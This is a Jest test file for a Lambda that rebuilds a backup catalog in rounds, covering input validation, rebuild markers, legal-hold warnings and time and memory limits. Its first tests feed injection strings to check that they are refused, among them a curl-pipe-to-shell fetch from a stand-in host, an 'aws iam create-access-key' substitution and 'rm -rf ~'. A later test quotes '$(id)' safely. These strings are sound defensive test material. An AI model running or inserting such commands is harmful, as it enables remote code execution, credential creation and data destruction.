import { spawnSync } from 'node:child_process';
import { CATALOG_REBUILD_ROUNDS } from '../../../../config/catalog-rebuild-rounds';
import { type BackupRecord } from '../../../../lambdas/catalog/backup-record';
import { backupSnapshotTags } from '../../../../lambdas/catalog/backup-snapshot-tags';
import { type CatalogRebuildReport, HOLD_NOT_REBUILT } from '../../../../lambdas/catalog/catalog-rebuild';
import { type RebuildMarker } from '../../../../lambdas/catalog/catalog-rebuild-marker';
import { addUpRounds } from '../../../../lambdas/catalog/catalog-rebuild-rounds';
import { summarizeRebuild } from '../../../../lambdas/catalog/catalog-rebuild-summary';
import { handler, rebuildCatalogHandler } from '../../../../lambdas/handlers/rebuild-catalog';
import { TransientError } from '../../../../lambdas/runtime/errors';
import { type LambdaRuntime } from '../../../../lambdas/runtime/lambda-runtime';
import { MemoryVaultStore } from '../../../../vault/backend/memory/memory-vault-store';
import { type VaultStore } from '../../../../vault/backend/vault-store';
import { PassphraseKeyProvider } from '../../../../vault/keys/passphrase-key-provider';
import { initVault, openVault, type Vault } from '../../../../vault/repository/vault';
import { SMALL_TUNING } from '../../../support/vault-test-helpers';

/**
 * The runbook's input is refused, naming the field, before the function builds anything from its
 * environment (none is set here). A valid input runs end to end in test/e2e/workflows/runbook-examples.test.ts.
 */
it.each([
  [{ vault: 'backup' }, 'Invalid catalog rebuild request: vault: must be "primary" or "dr"'],
  [{ vualt: 'dr' }, 'Invalid catalog rebuild request: (input): Unrecognized key'],
  ['primary', 'Invalid catalog rebuild request: (input): '],
  // Review r58A F1: whoever may start the runbook wrote a free-text line that every operator of the catalog was told to
  // paste; the input now has fields only, from which the function makes the line.
  [{ markerFinishWith: 'lifeboat catalog rebuild --vault primary --env prod --aws; curl -s https://x.example/p | sh' }, '(input): Unrecognized key: "markerFinishWith"'],
  [{ markerOptions: { finishWith: 'lifeboat catalog rebuild --vault primary --env dev' } }, 'markerOptions: Unrecognized key: "finishWith"'],
  [{ markerOptions: { dataDir: '../cloud-b' } }, 'markerOptions.dataDir: must be an absolute path'],
  [{ markerOptions: { dataDir: '/srv/a\u2028curl x|sh' } }, 'markerOptions.dataDir: must have no control, format or line-separator characters'],
  [{ markerOptions: { dataDir: '/srv/a\u2029rm -rf ~' } }, 'markerOptions.dataDir: must have no control, format or line-separator characters'],
  [{ markerOptions: { dataDir: '/srv/\u202Ehs|x lruc\u202C' } }, 'markerOptions.dataDir: must have no control, format or line-separator characters'],
  [{ markerOptions: { dataDir: '/srv/a\u200B' } }, 'markerOptions.dataDir: must have no control, format or line-separator characters'],
  [{ markerOptions: { dataDir: '/srv/a\n\u001b[2J' } }, 'markerOptions.dataDir: must have no control, format or line-separator characters'],
  [{ markerOptions: { dataDir: `/${'d'.repeat(1024)}` } }, 'markerOptions.dataDir: must be at most 1024 characters'],
  [{ markerOptions: { vaultKey: '$(aws iam create-access-key --user-name ops)' } }, 'markerOptions.vaultKey: must be a KMS key id, key ARN, alias name (alias/…) or alias ARN'],
  [{ markerOptions: { vaultKey: 'alias/k`id`' } }, 'markerOptions.vaultKey: must be a KMS key id'],
  [{ markerOptions: { vaultKey: 'alias/k; curl x|sh' } }, 'markerOptions.vaultKey: must be a KMS key id'],
  [{ markerOptions: { vaultKey: 'alias/k\u2028curl x|sh' } }, 'markerOptions.vaultKey: must be a KMS key id'],
])('refuses %j with an InvalidInputError naming the field', async (input, message) => {
  await expect(handler({ request: input })).rejects.toMatchObject({ name: 'InvalidInputError', message: expect.stringContaining(message) });
});

describe('rounds: the deadline of each invocation, and the error when the rounds run out', () => {
  const MINUTE = 60_000;
  let vault: Vault;
  const records = new Map<string, BackupRecord>();
  /** The rebuild's marker in the catalog (catalog-rebuild-marker.ts), as it stands. */
  let marker: RebuildMarker | undefined;
  /** The backup whose index write DynamoDB throttles once (a TransientError: Step Functions retries the round with the same input). */
  let throttleIndexOf: string | undefined;

  beforeAll(async () => {
    vault = await initVault(new MemoryVaultStore('rounds'), new PassphraseKeyProvider('unit', { N: 1024, r: 8, p: 1 }), SMALL_TUNING);
    for (const day of [1, 2, 3]) {
      const backupId = `2026030${day}T100000Z-0000000${day}`;
      const run = { backupId, plan: 'orders', environment: 'prod', strategy: 'full' as const, requestedStrategy: 'full' as const, startedAt: `2026-03-0${day}T10:00:00.000Z`, shardCount: 1, sourceNames: ['orders-bucket'] };
      const writer = await vault.newSnapshotWriter({ parent: null, inline: true });
      await writer.add({ path: 'item', kind: 'object', meta: {}, content: Buffer.from(backupId) });
      const tags = backupSnapshotTags(run, { changedDuringRead: 0, vanished: 0, skipped: 0 });
      // The newest as a run from before requestedStrategy was tagged: its record is created with an entry for a reader.
      const written = day === 3 ? tags.filter((t) => !t.startsWith('requestedStrategy:')) : tags;
      await vault.commitSnapshot({ source: { kind: 's3', id: 'orders-bucket' }, parts: [await writer.finish()], parent: null, tags: written, startedAt: new Date(run.startedAt) });
    }
  });
  beforeEach(() => {
    records.clear();
    marker = undefined;
    throttleIndexOf = undefined;
    // Only Date: each record written takes ten minutes of the invocation's fifteen (the rest of the clock runs).
    jest.useFakeTimers({ now: Date.UTC(2026, 11, 6), doNotFake: ['nextTick', 'setImmediate', 'setTimeout', 'clearTimeout', 'setInterval', 'clearInterval', 'queueMicrotask', 'hrtime', 'performance'] });
  });
  afterEach(() => jest.useRealTimers());

  const catalog = {
    getBackup: async (id: string) => records.get(id),
    putRebuiltBackup: async (r: BackupRecord) => {
      jest.setSystemTime(Date.now() + 10 * MINUTE);
      if (records.has(r.backupId)) return false;
      records.set(r.backupId, r);
      return true;
    },
    indexCommittedBackup: async (r: BackupRecord) => {
      if (r.backupId !== throttleIndexOf) return;
      throttleIndexOf = undefined;
      throw new TransientError('ProvisionedThroughputExceededException: throttled');
    },
    listBackupsOfPlan: async (plan: string) => [...records.values()].filter((r) => r.plan === plan),
    rebuildMarker: () => ({
      read: async () => marker,
      write: async (m: RebuildMarker) => {
        marker = m;
      },
      remove: async () => {
        marker = undefined;
      },
    }),
  };
  const runtime = () => ({ config: { homeVault: 'dr' }, environment: 'prod', plans: [{ name: 'orders' }], catalog, openVault: async () => vault }) as unknown as LambdaRuntime;
  const invocation = (remaining: number) => ({ getRemainingTimeInMillis: () => remaining });

  it('cut by its time, answers done: false below the newest it wrote; the next round finishes and counts what both created', async () => {
    const first = await rebuildCatalogHandler(runtime)({ request: {} }, invocation(15 * MINUTE));
    expect(first).toMatchObject({ done: false, round: 1, created: 2, resumeBelow: { backupId: '20260302T100000Z-00000002' }, report: { left: 1, rounds: 1 } });
    expect([...records.keys()].sort()).toEqual(['20260302T100000Z-00000002', '20260303T100000Z-00000003']);
    // Between the rounds the catalog says from when it is whole, and how to finish it (review rH F2).
    expect(marker).toEqual({
      reliableFrom: { startedAt: '2026-03-02T10:00:00.000Z', backupId: '20260302T100000Z-00000002' },
      vault: 'dr',
      writtenAt: '2026-12-06T00:20:00.000Z',
      finishWith: 'lifeboat catalog rebuild --vault dr --region dr --env prod --aws',
    });
    const second = await rebuildCatalogHandler(runtime)({ request: {}, rebuild: first }, invocation(15 * MINUTE));
    expect(second).toMatchObject({ done: true, round: 2, created: 3, report: { outcomes: { created: 3, unchanged: 0 }, rounds: 2 } });
    expect(marker).toBeUndefined();
  });

  it('the execution output says what every round created: the legal holds of all its records, and the entries of the earlier rounds for a reader (review rH F1)', async () => {
    const first = await rebuildCatalogHandler(runtime)({ request: {} }, invocation(15 * MINUTE));
    expect(first.report.attention.map((b) => b.backupId)).toEqual(['20260303T100000Z-00000003']);
    // The state the workflow passes on is JSON.
    const second = await rebuildCatalogHandler(runtime)(JSON.parse(JSON.stringify({ request: {}, rebuild: first })) as { request: object }, invocation(15 * MINUTE));
    expect(second).toMatchObject({ done: true, created: 3, holds: { notRebuilt: 3, recovered: 0 }, report: { notListed: 0 } });
    expect(second.report.warnings).toEqual([expect.stringMatching(/^legal holds are not rebuilt: .* none of the 3 record\(s\) created here is held, .*Before retention next runs, hold each backup/)]);
    expect(second.report.attention).toEqual([
      { backupId: '20260303T100000Z-00000003', plan: 'orders', outcome: 'created', unrecovered: ['requestedStrategy (presumed the strategy applied)', HOLD_NOT_REBUILT] },
    ]);
  });

  // Review r57AD F1: the function's own line has no --data-dir; a runbook on a local cloud at another data directory left
  // a marker whose line, pasted from a refused restore by point in time, rebuilt the default data directory's catalog.
  // Review r58A F1: the line is the function's own, with the options quoted as one shell word each, whatever they hold.
  it('on a local cloud, stores its own line with the --data-dir of markerOptions, one shell word however it is spelt', async () => {
    const local = () => ({ ...runtime(), config: { homeVault: 'dr', localEndpoints: { s3: 'http://127.0.0.1:1' } } }) as unknown as LambdaRuntime;
    const dataDir = "/srv/dr cloud; $(id) `id` it's";
    await rebuildCatalogHandler(local)({ request: { markerOptions: { dataDir } } }, invocation(15 * MINUTE));
    const line = "lifeboat catalog rebuild --vault dr --region dr --env prod --data-dir '/srv/dr cloud; $(id) `id` it'\\''s'";
    expect(marker).toMatchObject({ vault: 'dr', finishWith: line });
    // A POSIX shell reads it back as the words the function meant, the data directory whole.
    const words = spawnSync('sh', ['-c', `printf '%s\\n' ${line}`], { encoding: 'utf8' }).stdout.split('\n').slice(0, -1);
    expect(words).toEqual(['lifeboat', 'catalog', 'rebuild', '--vault', 'dr', '--region', 'dr', '--env', 'prod', '--data-dir', dataDir]);
  });

  // Review r58A F1, F2: an option that cannot be meant (a data directory in AWS, a vault key on a local cloud or with the
  // DR vault, whose rebuild never opens the primary vault's key) is refused before anything is read, not printed.
  it.each([
    [{ dataDir: '/srv/x' }, {}, "markerOptions.dataDir: is a local cloud's option, and this function runs in AWS"],
    [{ vaultKey: 'alias/ops-key' }, {}, "markerOptions.vaultKey: names the primary vault's key, which a rebuild from the dr vault never opens"],
    [{ vaultKey: 'alias/ops-key' }, { localEndpoints: { s3: 'http://127.0.0.1:1' } }, 'markerOptions.vaultKey: is an option of AWS, and this function runs on a local cloud (its vault has a key file)'],
  ])('refuses markerOptions %j that do not fit the run, before reading anything', async (markerOptions, config, message) => {
    const opened = jest.fn(async () => vault);
    const at = () => ({ ...runtime(), config: { homeVault: 'dr', ...config }, openVault: opened }) as unknown as LambdaRuntime;
    await expect(rebuildCatalogHandler(at)({ request: { markerOptions } }, invocation(15 * MINUTE))).rejects.toMatchObject({
      name: 'InvalidInputError',
      message: `Invalid catalog rebuild request: ${message}`,
    });
    expect(opened).not.toHaveBeenCalled();
    expect(marker).toBeUndefined();
  });

  // Review r58A F4: the marker kept the CLI's line, but the errors of the same execution named the function's own, and
  // the operator reading the failure pasted a line without --vault-key (or --data-dir).
  it('the marker, the error when the rounds run out and a refusal for memory name the same line, with the vault key of markerOptions', async () => {
    const vaultKey = 'arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab';
    const line = `lifeboat catalog rebuild --vault primary --env prod --aws --vault-key ${vaultKey}`;
    const primary = (memoryMb?: number) => () =>
      ({
        ...runtime(),
        config: { homeVault: 'primary', primaryVault: { bucket: 'vault', region: 'us-east-1', keyArn: vaultKey, keyArnVariable: 'VAULT_KEY_ARN' }, ...(memoryMb !== undefined ? { memoryMb } : {}) },
        vaultStore: () => new MemoryVaultStore('no-dr-copies'),
      }) as unknown as LambdaRuntime;
    const request = { markerOptions: { vaultKey } };
    const outOfRounds = await rebuildCatalogHandler(primary())({ request, rebuild: { round: CATALOG_REBUILD_ROUNDS - 1, created: 0 } }, invocation(15 * MINUTE)).catch((e: Error) => e);
    expect(marker?.finishWith).toBe(line);
    expect(outOfRounds).toMatchObject({ name: 'CatalogRebuildIncompleteError', message: expect.stringMatching(/ran out of time after/) });
    expect((outOfRounds as Error).message.endsWith(`: ${line}`)).toBe(true);
    const refused = await rebuildCatalogHandler(primary(128))({ request }, invocation(15 * MINUTE)).catch((e: Error) => e);
    expect(refused).toMatchObject({ name: 'CatalogRebuildTooManySnapshotsError' });
    expect((refused as Error).message.endsWith(`: ${line}`)).toBe(true);
  });

  // Review r58C F1: the runbook never opens the vault with markerOptions.vaultKey, so any well-formed key passed: a console
  // user made every operator's line name another account's key, and a wrong --vault-key with --runbook succeeded.
  describe('a vaultKey in markerOptions is the key the function opens the primary vault with (VAULT_KEY_ARN), or an alias', () => {
    const own = 'arn:aws:kms:us-east-1:111122223333:key/0000aaaa-0000-4000-8000-000000000000';
    const opened = jest.fn(async () => vault);
    const primary = (keyArn: string | undefined) => () =>
      ({
        ...runtime(),
        config: { homeVault: 'primary', primaryVault: { bucket: 'vault', region: 'us-east-1', keyArn, keyArnVariable: 'VAULT_KEY_ARN' } },
        openVault: opened,
        vaultStore: () => new MemoryVaultStore('no-dr-copies'),
      }) as unknown as LambdaRuntime;
    beforeEach(() => opened.mockClear());

    it.each([
      ['another account\'s key ARN', 'arn:aws:kms:us-east-1:666666666666:key/1234abcd-12ab-34cd-56ef-1234567890ab'],
      ['its key ARN in another region', 'arn:aws:kms:eu-west-1:111122223333:key/0000aaaa-0000-4000-8000-000000000000'],
      ['another key id', '1234abcd-12ab-34cd-56ef-1234567890ab'],
      ['another account\'s alias ARN', 'arn:aws:kms:us-east-1:666666666666:alias/lifeboat-prod-vault'],
      ['another multi-Region key', 'mrk-1234abcd12ab34cd56ef1234567890ab'],
    ])('refuses %s before opening anything, naming --vault-key and the key it opens the vault with', async (_what, vaultKey) => {
      const refused = await rebuildCatalogHandler(primary(own))({ request: { markerOptions: { vaultKey } } }, invocation(15 * MINUTE)).catch((e: Error) => e);
      expect(refused).toMatchObject({
        name: 'InvalidInputError',
        message:
          `Invalid catalog rebuild request: markerOptions.vaultKey (lifeboat catalog rebuild --vault-key): ${vaultKey} is not the key this function opens the primary vault with, ${own} (VAULT_KEY_ARN): ` +
          'fix --vault-key (that key\'s ARN or id, an alias name, or an alias ARN of its account and region: the function resolves no alias), or leave it out',
      });
      expect(opened).not.toHaveBeenCalled();
      expect(marker).toBeUndefined();
    });

    it('refuses any key id or ARN when the function has no VAULT_KEY_ARN to check it against', async () => {
      await expect(rebuildCatalogHandler(primary(undefined))({ request: { markerOptions: { vaultKey: own } } }, invocation(15 * MINUTE))).rejects.toMatchObject({
        name: 'InvalidInputError',
        message: expect.stringContaining(`markerOptions.vaultKey (lifeboat catalog rebuild --vault-key): ${own} cannot be checked: this function has no VAULT_KEY_ARN`),
      });
      expect(opened).not.toHaveBeenCalled();
    });

    it.each([
      ['its key ARN', own],
      ['its key id', '0000aaaa-0000-4000-8000-000000000000'],
      ['its key id in capitals', '0000AAAA-0000-4000-8000-000000000000'],
      ['an alias name (resolved in the account the line runs in)', 'alias/lifeboat-prod-vault'],
      ['an alias ARN of its account and region', 'arn:aws:kms:us-east-1:111122223333:alias/lifeboat-prod-vault'],
    ])('takes %s, and its marker names it', async (_what, vaultKey) => {
      await rebuildCatalogHandler(primary(own))({ request: { markerOptions: { vaultKey } } }, invocation(15 * MINUTE));
      expect(opened).toHaveBeenCalled();
      expect(marker?.finishWith).toBe(`lifeboat catalog rebuild --vault primary --env prod --aws --vault-key ${vaultKey}`);
    });
  });

  it('a round cut among backups newer than the earlier mark (written since) goes on, and the next finishes (review rH F4)', async () => {
    const mark = { startedAt: '2026-03-01T10:00:00.000Z', backupId: '20260301T100000Z-00000001' };
    await catalog.putRebuiltBackup({ backupId: mark.backupId, plan: 'orders', environment: 'prod', status: 'COMMITTED', strategy: 'full', startedAt: mark.startedAt, sourceNames: ['orders-bucket'], sources: [] } as unknown as BackupRecord);
    // 9.5 minutes to write in: the newest is created, and the round is cut before the middle one, above the mark.
    const cut = await rebuildCatalogHandler(runtime)({ request: {}, rebuild: { round: 1, created: 1, resumeBelow: mark } }, invocation(10.5 * MINUTE));
    expect(cut).toMatchObject({ done: false, round: 2, created: 2, resumeBelow: mark, report: { left: 1 } });
    const last = await rebuildCatalogHandler(runtime)({ request: {}, rebuild: cut }, invocation(15 * MINUTE));
    expect(last).toMatchObject({ done: true, round: 3, created: 3 });
    expect([...records.keys()].sort()).toEqual(['20260301T100000Z-00000001', '20260302T100000Z-00000002', '20260303T100000Z-00000003']);
  });

  it('carries a refused legal-hold read of an earlier round into the last round\'s warnings', () => {
    const report = (legalHoldsUnread?: string): CatalogRebuildReport => ({
      vault: 'primary',
      snapshots: 1,
      untaggedSnapshots: 0,
      unreadableSnapshots: [],
      drCopies: 'unknown',
      backups: [{ backupId: '20260303T100000Z-00000003', plan: 'orders', outcome: legalHoldsUnread ? 'created' : 'unchanged', ...(legalHoldsUnread ? { unrecovered: [HOLD_NOT_REBUILT] } : {}) }],
      missingFromVault: [],
      ...(legalHoldsUnread ? { legalHoldsUnread } : {}),
      progress: { complete: true },
    });
    const first = addUpRounds(report('Access Denied'), summarizeRebuild(report('Access Denied')), undefined, 's3://vault');
    const last = addUpRounds(report(), summarizeRebuild(report()), { created: first.created, holds: first.holds, createdAttention: first.createdAttention, report: first.summary }, 's3://vault');
    expect(last.summary.outcomes).toMatchObject({ created: 1, unchanged: 0 });
    expect(last.summary.warnings).toEqual([
      expect.stringMatching(/^legal holds are not rebuilt: .* none of the 1 record\(s\) created here is held/),
      expect.stringMatching(/^the S3 legal holds of the snapshot objects in s3:\/\/vault could not be read \(Access Denied\)/),
    ]);
  });

  it('out of rounds, or a round that wrote nothing, fails with CatalogRebuildIncompleteError: the catalog is partial, the oldest missing, and the command that finishes it', async () => {
    const last = rebuildCatalogHandler(runtime)({ request: {}, rebuild: { round: CATALOG_REBUILD_ROUNDS - 1, created: 0 } }, invocation(15 * MINUTE));
    await expect(last).rejects.toMatchObject({
      name: 'CatalogRebuildIncompleteError',
      message: expect.stringMatching(
        /ran out of time after 12 rounds .*: 1 older backup\(s\) have no record in the catalog yet and 2 were created; legal holds are not rebuilt: .* none of the 2 record\(s\) created here is held, .*; the catalog is partial: .*what is missing is the oldest, those that started before 2026-03-02T10:00:00\.000Z\. Restores by point in time before 2026-03-02T10:00:00\.000Z are unreliable until the rebuild is finished, and refused meanwhile \(PointInTimeInRebuildGapError: .*: lifeboat catalog rebuild --vault dr --region dr --env prod --aws$/,
      ),
    });
    records.clear();
    await expect(rebuildCatalogHandler(runtime)({ request: {} }, invocation(0))).rejects.toMatchObject({
      name: 'CatalogRebuildIncompleteError',
      message: expect.stringContaining('a round of the catalog rebuild had no time left to write a backup after scanning the vault\'s 3 snapshots: 3 older backup(s) have no record in the catalog yet'),
    });
  });

  // Review rD F1: a round whose scan used half its time failed before writing the marker (f5c916f4), so restores by time
  // silently chose an older record; the scan now runs to its end, and a round it left no time to write marks the newest.
  it('a first round whose scan of the vault took its time fails with CatalogRebuildIncompleteError, its marker at the vault\'s newest backup', async () => {
    // Listing `snapshots/` takes the 14 minutes the round has (15 minus the reserve).
    const listing = vault.store;
    const slow: VaultStore = Object.assign(Object.create(listing) as VaultStore, {
      list: (prefix: string) => {
        if (prefix === 'snapshots/') jest.setSystemTime(Date.now() + 14 * MINUTE);
        return listing.list(prefix);
      },
    });
    const slowVault = await openVault(slow, new PassphraseKeyProvider('unit', { N: 1024, r: 8, p: 1 }));
    const slowRuntime = () => ({ ...runtime(), openVault: async () => slowVault }) as unknown as LambdaRuntime;
    await expect(rebuildCatalogHandler(slowRuntime)({ request: {} }, invocation(15 * MINUTE))).rejects.toMatchObject({
      name: 'CatalogRebuildIncompleteError',
      message: expect.stringMatching(/^a round of the catalog rebuild had no time left to write a backup after scanning the vault's 3 snapshots: .*the catalog has none of the vault's backups written by this rebuild/),
    });
    expect(records.size).toBe(0);
    expect(marker).toMatchObject({ reliableFrom: { startedAt: '2026-03-03T10:00:00.000Z', backupId: '20260303T100000Z-00000003' }, vault: 'dr' });
  });

  // Review rD F3: a vault past what the function's memory holds killed it with no message.
  it('a vault with more snapshots than the function\'s memory holds fails before any is read with CatalogRebuildTooManySnapshotsError', async () => {
    const small = () => ({ ...runtime(), config: { homeVault: 'dr', memoryMb: 128 } }) as unknown as LambdaRuntime;
    await expect(rebuildCatalogHandler(small)({ request: {} }, invocation(15 * MINUTE))).rejects.toMatchObject({
      name: 'CatalogRebuildTooManySnapshotsError',
      message: expect.stringMatching(/^memory: the vault holds 3 snapshot objects, more than the 0 a catalog-rebuild function of 128 MB holds .*"functionMemory": \{ "rebuild-catalog": 1024 \}.*: lifeboat catalog rebuild --vault dr --region dr --env prod --aws$/),
    });
    expect(records.size).toBe(0);
  });

  // Review rI F1: a later round's refusal passed through the handler as the core threw it, and the failed execution has
  // no output, so the records the earlier rounds created and their legal holds were said nowhere.
  it('a later round refused for memory says what the earlier rounds created and the legal holds to give back', async () => {
    const small = () => ({ ...runtime(), config: { homeVault: 'dr', memoryMb: 128 } }) as unknown as LambdaRuntime;
    const previous = { round: 1, created: 5000, holds: { notRebuilt: 5000, recovered: 0 }, createdAttention: 0, resumeBelow: { startedAt: '2026-03-02T10:00:00.000Z', backupId: '20260302T100000Z-00000002' } };
    await expect(rebuildCatalogHandler(small)({ request: {}, rebuild: previous }, invocation(15 * MINUTE))).rejects.toMatchObject({
      name: 'CatalogRebuildTooManySnapshotsError',
      message: expect.stringMatching(
        /this round read and wrote nothing, and the earlier rounds of this run created 5000 record\(s\)\. Legal holds are not rebuilt: .* none of the 5000 record\(s\) created here is held, .*still stop their deletion\. Give the function more memory .*or rebuild from a machine\. The catalog is partial: .*those that started before 2026-03-02T10:00:00\.000Z\. .*: lifeboat catalog rebuild --vault dr --region dr --env prod --aws$/,
      ),
    });
    expect(records.size).toBe(0);
  });

  // Review rI F2: a first round refused for memory said restores by time were not refused, while the marker of an earlier,
  // unfinished rebuild still refused those before its point.
  it('a first round refused for memory words its advice from the marker an earlier rebuild left', async () => {
    const small = (read?: () => Promise<RebuildMarker | undefined>) => () =>
      ({ ...runtime(), config: { homeVault: 'dr', memoryMb: 128 }, catalog: { ...catalog, rebuildMarker: () => ({ ...catalog.rebuildMarker(), ...(read ? { read } : {}) }) } }) as unknown as LambdaRuntime;
    marker = { reliableFrom: { startedAt: '2026-03-02T10:00:00.000Z', backupId: '20260302T100000Z-00000002' }, vault: 'dr', writtenAt: '2026-12-01T00:00:00.000Z' };
    // That rebuild wrote the backup its marker stands at.
    records.set('20260302T100000Z-00000002', { backupId: '20260302T100000Z-00000002', plan: 'orders', environment: 'prod', status: 'COMMITTED', strategy: 'full', startedAt: '2026-03-02T10:00:00.000Z', sourceNames: ['orders-bucket'], sources: [], shardCount: 1 });
    const standing = (await rebuildCatalogHandler(small())({ request: {} }, invocation(15 * MINUTE)).catch((e: Error) => e)) as Error;
    expect(standing.name).toBe('CatalogRebuildTooManySnapshotsError');
    expect(standing.message).toMatch(
      /or rebuild from a machine\. An earlier rebuild of this catalog did not finish \(its marker stands, written 2026-12-01T00:00:00\.000Z\)\. The catalog is partial: .*Restores by point in time before 2026-03-02T10:00:00\.000Z are unreliable until the rebuild is finished, and refused meanwhile/,
    );
    expect(standing.message).not.toContain('so they are not refused');
    // The marker stays as it stood: the round wrote nothing.
    expect(marker).toMatchObject({ writtenAt: '2026-12-01T00:00:00.000Z' });
    const unreadable = (await rebuildCatalogHandler(small(() => Promise.reject(new Error('throttled'))))({ request: {} }, invocation(15 * MINUTE)).catch((e: Error) => e)) as Error;
    expect(unreadable.message).toMatch(/The catalog's rebuild marker could not be read \(throttled\), so whether an earlier, unfinished rebuild's marker refuses restores by point in time is not known/);
    marker = undefined;
    const none = (await rebuildCatalogHandler(small())({ request: {} }, invocation(15 * MINUTE)).catch((e: Error) => e)) as Error;
    expect(none.message).toContain('the rebuild stopped before writing its marker, so they are not refused');
  });

  // Review rK F2: an earlier execution whose first round's scan took its time left its marker at the vault's newest backup
  // and wrote nothing; the refusal said later points in time already found their backup.
  it('a first round refused for memory, under the marker of an earlier rebuild that wrote nothing, says none of the vault\'s backups is written', async () => {
    const small = () => ({ ...runtime(), config: { homeVault: 'dr', memoryMb: 128 } }) as unknown as LambdaRuntime;
    marker = { reliableFrom: { startedAt: '2026-03-03T10:00:00.000Z', backupId: '20260303T100000Z-00000003' }, vault: 'dr', writtenAt: '2026-12-01T00:00:00.000Z' };
    const refused = (await rebuildCatalogHandler(small)({ request: {} }, invocation(15 * MINUTE)).catch((e: Error) => e)) as Error;
    expect(refused.name).toBe('CatalogRebuildTooManySnapshotsError');
    expect(refused.message).toMatch(
      /or rebuild from a machine\. An earlier rebuild of this catalog did not finish \(its marker stands, written 2026-12-01T00:00:00\.000Z\)\. The catalog has none of the vault's backups written by this rebuild, so every restore by point in time, the latest backup and failover are affected: .*: lifeboat catalog rebuild --vault dr --region dr --env prod --aws$/,
    );
    expect(refused.message).not.toContain('later points in time already find their backup');
  });

  // Review rK F1: only the refusal for memory carried the earlier rounds' records and holds; any other permanent error of a
  // later round failed the execution (which has no output) without them.
  it('a later round failing with any error says what the earlier rounds created and their legal holds, its name kept, a transient one too (review rP F2)', async () => {
    const previous = { round: 1, created: 5000, holds: { notRebuilt: 5000, recovered: 0 }, createdAttention: 0, resumeBelow: { startedAt: '2026-03-03T10:00:00.000Z', backupId: '20260303T100000Z-00000003' } };
    // S3 answers GetObjectLegalHold 503 (an outage): LegalHoldUnreadError, not retried.
    const locked: VaultStore = Object.assign(Object.create(vault.store) as VaultStore, {
      legalHold: async () => {
        throw Object.assign(new Error('Please reduce your request rate.'), { name: 'SlowDown', $metadata: { httpStatusCode: 503 } });
      },
    });
    const lockedVault = await openVault(locked, new PassphraseKeyProvider('unit', { N: 1024, r: 8, p: 1 }));
    const unreadHolds = () => ({ ...runtime(), openVault: async () => lockedVault }) as unknown as LambdaRuntime;
    await expect(rebuildCatalogHandler(unreadHolds)({ request: {}, rebuild: previous }, invocation(60 * MINUTE))).rejects.toMatchObject({
      name: 'LegalHoldUnreadError',
      message: expect.stringMatching(
        /could not be read \(Please reduce your request rate\.\).*run the rebuild again \(the records it wrote stay\)\. The earlier rounds of this run created 5000 record\(s\)\. Legal holds are not rebuilt: .* none of the 5000 record\(s\) created here is held, .*still stop their deletion\.$/,
      ),
    });
    // The vault key denied by KMS, before the vault is open.
    const denied = () =>
      ({
        ...runtime(),
        openVault: async () => {
          throw Object.assign(new Error('User is not authorized to perform: kms:Decrypt'), { name: 'AccessDeniedException', $metadata: { httpStatusCode: 400 } });
        },
      }) as unknown as LambdaRuntime;
    await expect(rebuildCatalogHandler(denied)({ request: {}, rebuild: previous }, invocation(60 * MINUTE))).rejects.toMatchObject({
      name: 'AccessDeniedException',
      message: expect.stringMatching(/^User is not authorized to perform: kms:Decrypt\. The earlier rounds of this run created 5000 record\(s\)\. Legal holds are not rebuilt: /),
    });
    // Retried (by its name) until the attempts run out, the last one fails the execution: it says them too (review rP F2).
    throttleIndexOf = '20260302T100000Z-00000002';
    await expect(rebuildCatalogHandler(runtime)({ request: {}, rebuild: previous }, invocation(60 * MINUTE))).rejects.toThrow(
      expect.objectContaining({
        name: 'TransientError',
        message: expect.stringMatching(/^ProvisionedThroughputExceededException: throttled\. The earlier rounds of this run created 5000 record\(s\)\. Legal holds are not rebuilt: .*still stop their deletion\.$/),
      }) as Error,
    );
  });

  // Review rK F3: at 2,048 MB the memory bound admits vaults whose scan, read across regions, outlasts Lambda's 15 minutes:
  // the function was killed mid-scan with no message and no marker.
  it('a round whose scan still reads when the round has only its time to write left fails with CatalogRebuildTooManySnapshotsError; one that leaves it goes on', async () => {
    const slowReads = (latency: number) => {
      const listing = vault.store;
      const slow: VaultStore = Object.assign(Object.create(listing) as VaultStore, {
        get: async (key: string, range?: Parameters<VaultStore['get']>[1]) => {
          const started = Date.now();
          await new Promise((resolve) => setImmediate(resolve));
          const body = await listing.get(key, range);
          // The three snapshot GETs are in flight at once: each ends `latency` after it started.
          if (key.startsWith('snapshots/')) jest.setSystemTime(Math.max(Date.now(), started + latency));
          return body;
        },
      });
      return async () => {
        const slowVault = await openVault(slow, new PassphraseKeyProvider('unit', { N: 1024, r: 8, p: 1 }));
        return () => ({ ...runtime(), openVault: async () => slowVault }) as unknown as LambdaRuntime;
      };
    };
    // 12 minutes a GET: the first read ends with the round's last 2 minutes (14 less the 120 s to write), two still to come.
    const tooSlow = await slowReads(12 * MINUTE)();
    await expect(rebuildCatalogHandler(tooSlow)({ request: {} }, invocation(15 * MINUTE))).rejects.toMatchObject({
      name: 'CatalogRebuildTooManySnapshotsError',
      message: expect.stringMatching(
        /^time: the vault holds 3 snapshot objects, more than a catalog-rebuild round reads with time left to write: in 720 s it read 1, and at the rate of its latest reads reading all of them would take ~2,160 s and end 1,320 s past the round's end, less than the 120 s a round needs .*this round stopped its scan and wrote nothing\. No Lambda setting makes the reads faster .*the rebuild stopped before writing its marker, so they are not refused.*: lifeboat catalog rebuild --vault dr --region dr --env prod --aws$/,
      ),
    });
    expect(records.size).toBe(0);
    expect(marker).toBeUndefined();
    // 2 minutes a GET: the scan ends at 2 minutes, 12 left to write: the round writes as before (each record takes 10 minutes here).
    const slowButFits = await slowReads(2 * MINUTE)();
    await expect(rebuildCatalogHandler(slowButFits)({ request: {} }, invocation(15 * MINUTE))).resolves.toMatchObject({ done: false, round: 1, created: 2 });
  });

  // Review rL R2: the failed execution has no output, so the holds the rounds carried were said nowhere.
  it('out of rounds, the CatalogRebuildIncompleteError carries the legal-hold warning of every record the rounds created', async () => {
    const previous = { round: CATALOG_REBUILD_ROUNDS - 1, created: 5000, holds: { notRebuilt: 5000, recovered: 0 }, createdAttention: 0, resumeBelow: { startedAt: '2026-03-02T10:00:00.000Z', backupId: '20260302T100000Z-00000002' } };
    await expect(rebuildCatalogHandler(runtime)({ request: {}, rebuild: previous }, invocation(0))).rejects.toMatchObject({
      name: 'CatalogRebuildIncompleteError',
      message: expect.stringMatching(/and 5000 were created; legal holds are not rebuilt: .* none of the 5000 record\(s\) created here is held, .*Before retention next runs, hold each backup/),
    });
  });

